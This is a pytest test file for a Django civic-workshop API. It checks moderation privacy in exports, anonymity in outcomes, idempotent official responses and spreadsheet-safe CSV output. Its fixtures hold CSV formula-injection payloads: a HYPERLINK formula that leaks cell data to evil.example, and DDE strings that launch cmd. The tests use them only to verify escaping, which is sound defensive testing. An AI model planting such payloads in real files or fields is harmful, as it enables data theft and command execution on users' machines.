"""The content's HTTP API: exports that keep moderated text private and are safe in a spreadsheet,
and outcomes that name nobody through a hidden idea."""
import csv
import io
import json

import pytest
from django.test import Client

from deliberation import moderation, proposals, questions
from deliberation.models import Response
from tests.factories import citizen, emitted, idea, last_seq, plenary, staff_member, workshop_with_facilitator

pytestmark = pytest.mark.django_db

PHONE = "Call me on 0612345678"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def made():
    """A workshop with a visible, a held and a hidden idea, a reply to the hidden one, and a proposal
    published from the visible and the (later hidden) idea."""
    workshop, fac = workshop_with_facilitator()
    board = plenary(workshop)
    an, bo, cas, dee = (citizen(workshop, name) for name in ("An", "Bo", "Cas", "Dee"))
    mod = staff_member(workshop, "moderator", "mo")
    official = staff_member(workshop, "official", "alderman")
    ideas = {
        "visible": idea(board, an, FORMULA),
        "held": idea(board, bo, PHONE, status="held"),
        "doomed": idea(board, cas, "My neighbour at number 5 is a thief"),
    }
    ideas["reply"] = idea(board, dee, "@SUM(1+1)*cmd|' /C calc'!A0", builds_on=ideas["doomed"])
    proposal = proposals.proposal_draft(actor=fac, title="-2+3 Green square", body="+Plant trees",
                                        sources=[ideas["visible"].pk, ideas["doomed"].pk])
    proposals.proposal_publish(actor=fac, proposal=proposal)
    moderation.idea_hide(actor=mod, idea=ideas["doomed"], reason="abuse")
    return workshop, {"fac": fac, "mod": mod, "official": official, "an": an, "bo": bo, "cas": cas, "dee": dee}, \
        ideas, proposal


def get(workshop, who, path):
    client = Client()
    client.force_login(who.user)
    return client.get(f"/api/workshops/{workshop.code}/{path}")


def rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_an_officials_export_has_no_text_of_held_or_hidden_ideas_but_keeps_their_status(made):
    workshop, people, ideas, proposal = made
    data = get(workshop, people["official"], "export?format=json").json()
    by_id = {i["id"]: i for i in data["ideas"]}
    assert (by_id[ideas["held"].pk]["text"], by_id[ideas["held"].pk]["status"]) == ("", "held")
    assert (by_id[ideas["doomed"].pk]["text"], by_id[ideas["doomed"].pk]["status"]) == ("", "hidden")
    assert by_id[ideas["visible"].pk]["text"] == FORMULA
    text = json.dumps(data)
    assert "0612345678" not in text and "thief" not in text

    exported = get(workshop, people["official"], "export?format=csv")
    assert b"0612345678" not in exported.content and b"thief" not in exported.content
    csv_ideas = {int(r[1]): r for r in rows(exported) if r[0] == "idea"}
    assert (csv_ideas[ideas["held"].pk][4], csv_ideas[ideas["held"].pk][6]) == ("", "held")
    assert (csv_ideas[ideas["doomed"].pk][4], csv_ideas[ideas["doomed"].pk][6]) == ("", "hidden")


def test_a_facilitators_export_has_the_text_of_held_and_hidden_ideas(made):
    workshop, people, ideas, proposal = made
    data = get(workshop, people["fac"], "export?format=json").json()
    by_id = {i["id"]: i for i in data["ideas"]}
    assert by_id[ideas["held"].pk]["text"] == PHONE
    assert by_id[ideas["doomed"].pk]["text"] == "My neighbour at number 5 is a thief"
    csv_ideas = {int(r[1]): r for r in rows(get(workshop, people["fac"], "export?format=csv")) if r[0] == "idea"}
    assert csv_ideas[ideas["held"].pk][4] == PHONE


@pytest.mark.parametrize("role", ["fac", "official"])
def test_export_csv_cells_that_start_like_a_formula_get_a_leading_quote(made, role):
    workshop, people, ideas, proposal = made
    table = rows(get(workshop, people[role], "export?format=csv"))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    visible = next(r for r in table if r[0] == "idea" and int(r[1]) == ideas["visible"].pk)
    assert visible[4] == "'" + FORMULA
    reply = next(r for r in table if r[0] == "idea" and int(r[1]) == ideas["reply"].pk)
    assert reply[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    [row] = [r for r in table if r[0] == "proposal"]
    assert row[4] == "'-2+3 Green square\n\n+Plant trees"


def test_report_csv_cells_that_start_like_a_formula_get_a_leading_quote(made):
    workshop, people, ideas, proposal = made
    proposals.proposal_respond(actor=people["official"], proposal_id=proposal.pk, status="accepted",
                               message="=1+1 we will do it")
    # Profile question keys are the facilitator's text, and become keys of the report's rows.
    workshop.profile_questions = [{"key": "=cmd|' /C calc'!A0", "label": "Age", "options": ["-30", "+30"]}]
    workshop.save(update_fields=["profile_questions"])
    table = rows(get(workshop, people["fac"], "report?format=csv"))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert ["representativeness", "'=cmd|' /C calc'!A0.-30", ""] in table


def test_outcomes_name_nobody_through_a_hidden_source(made):
    workshop, people, ideas, proposal = made
    response = Client().get(f"/api/workshops/{workshop.code}/outcomes")
    [published] = response.json()["proposals"]
    assert published["source_ideas"] == [
        {"id": ideas["visible"].pk, "text": FORMULA, "status": "visible", "author": "An"},
        {"id": ideas["doomed"].pk, "text": "", "status": "hidden", "author": ""}]
    # Cas wrote the hidden source, Dee only built on it: neither is named; An and the drafter are.
    assert [p["name"] for p in published["people"]] == ["fac", "An"]
    assert sorted(published["contributors"]) == sorted([people["fac"].pk, people["an"].pk])
    assert "Cas" not in response.content.decode() and "Dee" not in response.content.decode()


def respond(workshop, who, proposal, key=None, status="accepted"):
    client = Client()
    client.force_login(who.user)
    headers = {"Idempotency-Key": key} if key else {}
    return client.post(f"/api/workshops/{workshop.code}/proposals/{proposal.pk}/response",
                       json.dumps({"status": status, "message": "We will."}), content_type="application/json",
                       headers=headers)


def test_an_officials_response_is_the_payload_everyone_is_told(made):
    workshop, people, ideas, proposal = made
    before = last_seq(workshop)
    answer = respond(workshop, people["official"], proposal)
    assert answer.status_code == 201
    [(kind, payload, _)] = [e for e in emitted(workshop, after=before) if e[0] == "proposal.responded"]
    assert answer.json() == payload


def test_a_response_sent_again_with_its_key_is_stored_once_and_answered_the_same(made):
    workshop, people, ideas, proposal = made
    first = respond(workshop, people["official"], proposal, key="resp-1")
    again = respond(workshop, people["official"], proposal, key="resp-1", status="declined")
    assert first.status_code == again.status_code == 201 and again.json() == first.json()
    assert again["Idempotent-Replayed"] == "true"
    assert Response.objects.filter(proposal=proposal).count() == 1
    other = respond(workshop, people["official"], proposal, key="resp-2", status="declined")
    assert other.status_code == 201 and other.json()["proposal"]["response"]["status"] == "declined"
    assert Response.objects.filter(proposal=proposal).count() == 2


def test_the_same_key_from_two_officials_is_two_responses(made):
    workshop, people, ideas, proposal = made
    second = staff_member(workshop, "official", "deputy")
    respond(workshop, people["official"], proposal, key="same")
    theirs = respond(workshop, second, proposal, key="same", status="declined")
    assert theirs.status_code == 201 and not theirs.has_header("Idempotent-Replayed")
    assert sorted(Response.objects.filter(proposal=proposal).values_list("official__name", flat=True)) == \
        ["alderman", "deputy"]


@pytest.fixture
def asked(made):
    """Beside `made`: a public question with an upvote and an answer, and a hidden one."""
    workshop, people, ideas, proposal = made
    public = questions.question_ask(actor=people["an"], text="-1 Who pays?")
    questions.question_upvote(actor=people["bo"], question=public, value=True)
    questions.question_answer(actor=people["official"], question=public, text="=The city")
    hidden = questions.question_ask(actor=people["cas"], text="Is my neighbour a thief?")
    questions.question_hide(actor=people["mod"], question=hidden, reason="abuse")
    return workshop, people, public, hidden


def test_the_export_has_questions_with_votes_and_answers_but_no_hidden_text_for_officials(asked):
    workshop, people, public, hidden = asked
    data = get(workshop, people["official"], "export?format=json").json()
    by_id = {q["id"]: q for q in data["questions"]}
    assert by_id[public.pk] == {"id": public.pk, "author": "P2", "text": "-1 Who pays?", "status": "answered",
                                "votes": 1, "created_at": by_id[public.pk]["created_at"],
                                "answer": {"text": "=The city", "by": "official",
                                           "at": by_id[public.pk]["answer"]["at"]}}
    assert by_id[hidden.pk]["text"] == "" and by_id[hidden.pk]["status"] == "hidden"
    assert "thief" not in get(workshop, people["official"], "export?format=csv").content.decode()
    assert get(workshop, people["fac"], "export?format=json").json()["questions"][1]["text"] == \
        "Is my neighbour a thief?"


def test_the_csv_export_has_question_rows_safe_for_a_spreadsheet(asked):
    workshop, people, public, hidden = asked
    table = rows(get(workshop, people["fac"], "export?format=csv"))
    header = table[0]
    [row] = [dict(zip(header, r)) for r in table if r[0] == "question" and int(r[1]) == public.pk]
    assert row["text"] == "'-1 Who pays?" and row["answer"] == "'=The city" and row["votes"] == "1"
    assert row["status"] == "answered" and row["author"] == "P2"
